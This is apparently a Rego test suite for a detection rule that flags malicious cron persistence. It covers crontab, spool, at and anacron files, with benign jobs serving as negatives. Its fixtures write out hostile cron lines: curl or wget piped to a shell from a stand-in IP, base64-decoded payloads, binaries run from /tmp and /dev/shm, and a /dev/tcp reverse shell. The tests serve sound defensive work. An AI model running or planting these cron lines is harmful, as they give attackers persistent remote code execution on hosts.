package rummage.persistence.cron_download_test

import data.rummage.persistence.cron_download as rule

job(line) := {"path": "/etc/cron.d/job", "kind": "added", "type": "file", "size": 20, "text": concat("", ["# comment: curl http://198.51.100.7/x | sh\n", line, "\n"])}

test_fires_on_downloads if {
	every line in [
		"* * * * * root curl -s http://198.51.100.7/x | sh",
		"*/5 * * * * wget -q -O- http://198.51.100.7/x|bash",
		"@reboot root (curl -fsSL 198.51.100.7/x || wget -q -O- 198.51.100.7/x) | bash",
	] {
		count(rule.findings) == 1 with input.changes as [job(line)]
	}
}

test_fires_on_decoding if {
	count(rule.findings) == 1 with input.changes as [job("* * * * * root echo aGkK | base64 -d | sh")]
}

test_fires_on_odd_places if {
	every line in ["* * * * * root /tmp/m", "@reboot /var/tmp/.x/m -c a", "* * * * * /root/.x/y", "*/2 * * * * root sh -c '/dev/shm/k'"] {
		count(rule.findings) == 1 with input.changes as [job(line)]
	}
}

test_silent_on_other_jobs if {
	every line in [
		"0 4 * * * root /usr/bin/certbot renew", "*/5 * * * * www-data php /srv/app/cron.php > /tmp/cron.log 2>&1",
		"0 3 * * * root find /tmp -mtime +7 -delete", "0 0 * * * root cd / && run-parts --report /etc/cron.daily",
	] {
		count(rule.findings) == 0 with input.changes as [job(line)]
	}
}

test_silent_on_packages if {
	found := rule.findings with input.changes as [
		object.union(job("* * * * * root curl http://198.51.100.7/x | sh"), {"package": "x"}),
		{"path": "/var/lib/dpkg/status", "kind": "modified", "type": "file"},
	]
	count(found) == 0
}

in_file(path, text) := {"path": path, "kind": "added", "type": "file", "size": 20, "text": text}

test_fires_on_a_users_table if {
	every line in ["*/5 * * * * /tmp/x", "@reboot python3 /dev/shm/x.py", "* * * * * cd /var/tmp && ./m"] {
		every path in ["/var/spool/cron/crontabs/root", "/var/spool/cron/root", "/etc/crontabs/root"] {
			count(rule.findings) == 1 with input.changes as [in_file(path, line)]
		}
	}
}

test_fires_on_scripts_and_jobs_of_at if {
	every path in ["/etc/cron.daily/x", "/etc/periodic/hourly/x", "/var/spool/cron/atjobs/a0001", "/etc/anacrontab"] {
		count(rule.findings) == 1 with input.changes as [in_file(path, "#!/bin/sh\nset -e\n/dev/shm/x -d\n")]
	}
	count(rule.findings) == 1 with input.changes as [in_file("/etc/anacrontab", "1 5 job sh /tmp/x")]
}

test_fires_on_a_shell_of_the_table if {
	count(rule.findings) == 1 with input.changes as [in_file("/etc/crontab", "SHELL=/dev/shm/.sh\n* * * * * root true\n")]
}

test_fires_on_shells_tied_to_the_network if {
	count(rule.findings) == 1 with input.changes as [job("* * * * * root bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'")]
}

test_fires_on_downloads_that_are_kept if {
	every line in [
		"* * * * * root curl -o /usr/bin/x http://198.51.100.7/x", "* * * * * root curl -sO http://198.51.100.7/x",
		"* * * * * root wget http://198.51.100.7/x", "* * * * * root curl http://198.51.100.7/x > /usr/lib/x",
		"* * * * * root curl -fsS http://localhost/x http://198.51.100.7/x -o /usr/lib/x",
	] {
		count(rule.findings) == 1 with input.changes as [job(line)]
	}
}

test_fires_critical_at_start if {
	found := rule.findings with input as {
		"config": {"started": "2026-01-02T03:04:05Z"},
		"changes": [object.union(job("* * * * * root /tmp/x"), {"mtime": "2026-01-02T03:04:06Z"})],
	}
	{f.severity | some f in found} == {"critical"}
}

test_fires_medium_when_rpm_packages_may_have_it if {
	found := rule.findings with input.changes as [job("* * * * * root /tmp/x"), {"path": "/var/lib/rpm/rpmdb.sqlite", "kind": "modified", "type": "file"}]
	{f.severity | some f in found} == {"medium"}
}

# What only tells a service that a job has run, or has an application do its
# own jobs, downloads nothing.
test_silent_on_calls if {
	every line in [
		"*/5 * * * * root curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/uuid",
		"0 * * * * root /usr/bin/backup && curl -s https://uptime.example/push/x > /dev/null 2>&1",
		"*/15 * * * * www-data wget -q -O - http://localhost/wp-cron.php?doing_wp_cron >/dev/null 2>&1",
		"*/15 * * * * www-data wget -qO- https://example.com/cron.php", "* * * * * root wget http://127.0.0.1:8080/cron",
		"0 1 * * * root wget --spider https://example.com/cron",
	] {
		count(rule.findings) == 0 with input.changes as [job(line)]
	}
}

test_silent_on_jobs_about_temporary_files if {
	every line in ["0 3 * * * find /tmp -mtime +7 -delete", "@daily rm -rf /tmp/cache", "0 0 * * * /usr/bin/backup > /tmp/log 2>&1"] {
		count(rule.findings) == 0 with input.changes as [in_file("/etc/crontabs/root", line)]
	}
}

test_silent_on_tools_in_a_home_directory if {
	every line in [`0 0 * * * "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null`, "0 0 * * * ~/.local/bin/backup"] {
		count(rule.findings) == 0 with input.changes as [in_file("/var/spool/cron/crontabs/root", line)]
	}
}
